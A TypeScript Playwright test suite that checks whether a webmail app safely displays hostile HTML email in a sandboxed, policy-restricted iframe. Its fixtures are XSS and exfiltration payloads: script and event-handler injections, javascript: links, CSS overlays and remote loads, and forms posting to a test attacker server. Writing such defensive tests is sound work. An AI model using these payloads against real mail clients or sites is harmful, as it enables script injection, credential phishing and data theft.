/**
 * Mail that attacks its reader. Each measure has a test that fails without it: the sandbox, the policy of the document in the frame, and
 * what mail-document.ts takes out. Tests of the last two look at the document itself, because the sandbox alone would also stop them.
 */
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { Frame, Page } from 'playwright-core';
import { startTestService } from '../harness.ts';
import { startAttacker } from './attacker.ts';
import { openPage, startChromium } from './chromium.ts';
import { mail, receive } from './mail.ts';

const chromium = await startChromium();
const { url: attacker, reached } = await startAttacker();
const service = await startTestService();
const context = await chromium.open();
let page: Page;
before(async () => {
  await service.call('POST', '/identities', { body: { value: 'sales@shop.example' } });
  page = await openPage(context, service);
});

/** The frame that shows the mail, once everything that the mail loads is loaded. */
async function show(html: string): Promise<Frame> {
  reached.length = 0;
  const id = await receive(
    service,
    'sales@shop.example',
    mail({ html: `${html}<p>The end of the mail</p>` }),
  );
  await page.goto(`${service.url}/app/messages/${id}`);
  const frame = await (await page.waitForSelector('iframe')).contentFrame();
  assert.ok(frame);
  await frame.getByText('The end of the mail').waitFor();
  await frame.waitForLoadState('load');
  return frame;
}

describe('the frame', () => {
  test('has an opaque origin, and cannot reach the page', async () => {
    const frame = await show('<p>Hello</p>');
    assert.equal(await frame.evaluate('self.origin'), 'null');
    const tokens = await page
      .locator('iframe')
      .evaluate((element) => [...(element as unknown as { sandbox: string[] }).sandbox]);
    for (const token of ['allow-scripts', 'allow-same-origin', 'allow-forms', 'allow-top-navigation'])
      assert.ok(!tokens.includes(token), token);
  });

  test('has a policy of its own that loads nothing', async () => {
    const frame = await show('<p>Hello</p>');
    const policy = await frame.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(
      policy ?? '',
      /^default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'$/,
    );
  });
});

describe('a mail with', () => {
  test('scripts: none of them is in the document, and none runs', async () => {
    const frame = await show(
      `<script>top.document.title = 'taken'</script><svg onload="parent.postMessage('taken', '*')"></svg><img src=x onerror="fetch('${attacker}/script')"><iframe src="${attacker}/frame"></iframe><object data="${attacker}/object"></object>`,
    );
    assert.equal(await frame.locator('script, iframe, object').count(), 0);
    assert.notEqual(await page.title(), 'taken');
    assert.equal(reached.join(), '');
  });

  test('javascript: links: they lead nowhere', async () => {
    const frame = await show(
      `<a id="a" href="javascript:top.location='${attacker}/link'">one</a><a id="b" href=" jAvAsCrIpT:alert(1)">two</a><a id="c" href="data:text/html,x">three</a><a id="d" href="${attacker}/web">four</a>`,
    );
    for (const id of ['a', 'b', 'c'])
      assert.equal(await frame.locator(`#${id}`).getAttribute('href'), null, id);
    const good = frame.locator('#d');
    assert.equal(await good.getAttribute('target'), '_blank');
    assert.equal(await good.getAttribute('rel'), 'noopener noreferrer');
  });

  test('CSS that covers the page: it stays inside its frame', async () => {
    await show(
      '<style>#cover, .side { position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 2147483647; background: red } body, main, nav { display: none !important } p { display: block !important } html, body { display: block !important }</style><div id="cover"></div>',
    );
    const at = await page.evaluate("document.elementFromPoint(40, 40)?.closest('.side')?.className");
    assert.equal(at, 'side');
    assert.ok(await page.getByRole('link', { name: 'Webhooks' }).isVisible());
  });

  test('CSS that loads: nothing leaves', async () => {
    await show(
      `<link rel="stylesheet" href="${attacker}/sheet"><style>@import url("${attacker}/import"); @font-face { font-family: x; src: url("${attacker}/font") } p { background: url("${attacker}/background"); font-family: x }</style>`,
    );
    assert.equal(reached.join(), '');
  });

  test('a form: it is taken out, and its content stays', async () => {
    const frame = await show(
      `<form action="${attacker}/form" method="post"><p>Your password</p><input name="p"><button formaction="${attacker}/button">Send</button></form>`,
    );
    assert.equal(await frame.locator('form, [formaction]').count(), 0);
    assert.ok(await frame.getByText('Your password').isVisible());
    await frame.getByRole('button', { name: 'Send' }).click();
    assert.equal(reached.join(), '');
  });

  test('a base: links keep their target', async () => {
    const frame = await show(`<base href="${attacker}/" target="_top"><img src="relative.gif">`);
    assert.equal(await frame.locator('base').count(), 0);
    assert.equal(reached.join(), '');
  });

  test('a refresh: the frame stays', async () => {
    const frame = await show(
      `<meta http-equiv="refresh" content="0; url=${attacker}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    );
    assert.equal(await frame.locator('meta[http-equiv="refresh"]').count(), 0);
    assert.equal(await frame.locator('meta[http-equiv]').count(), 1);
    assert.equal(frame.url(), 'about:srcdoc');
    assert.equal(reached.join(), '');
  });

  test('remote images: they load only when the user asks', async () => {
    await show(
      `<img src="${attacker}/pixel" srcset="${attacker}/set 2x"><p style="background: url('${attacker}/style')">x</p>`,
    );
    assert.equal(reached.join(), '');
    const loaded = page.waitForResponse(`${attacker}/pixel`);
    await page.getByRole('button', { name: 'Show remote images' }).click();
    await loaded;
    assert.ok(reached.includes('/pixel'));
  });

  test('a megabyte of HTML: it is shown', async () => {
    const frame = await show('<div>'.repeat(20_000) + 'x'.repeat(400_000));
    assert.ok(await page.getByRole('link', { name: 'Webhooks' }).isVisible());
    assert.ok(frame);
  });

  test('a subject of markup: it is text', async () => {
    const raw = mail({ subject: '<img src=x onerror=alert(1)><b>bold</b>' });
    const id = await receive(service, 'sales@shop.example', raw);
    await page.goto(`${service.url}/app/messages/${id}`);
    await page.getByRole('heading', { name: '<b>bold</b>' }).waitFor();
    assert.equal(await page.locator('h1 img, h1 b').count(), 0);
  });
});
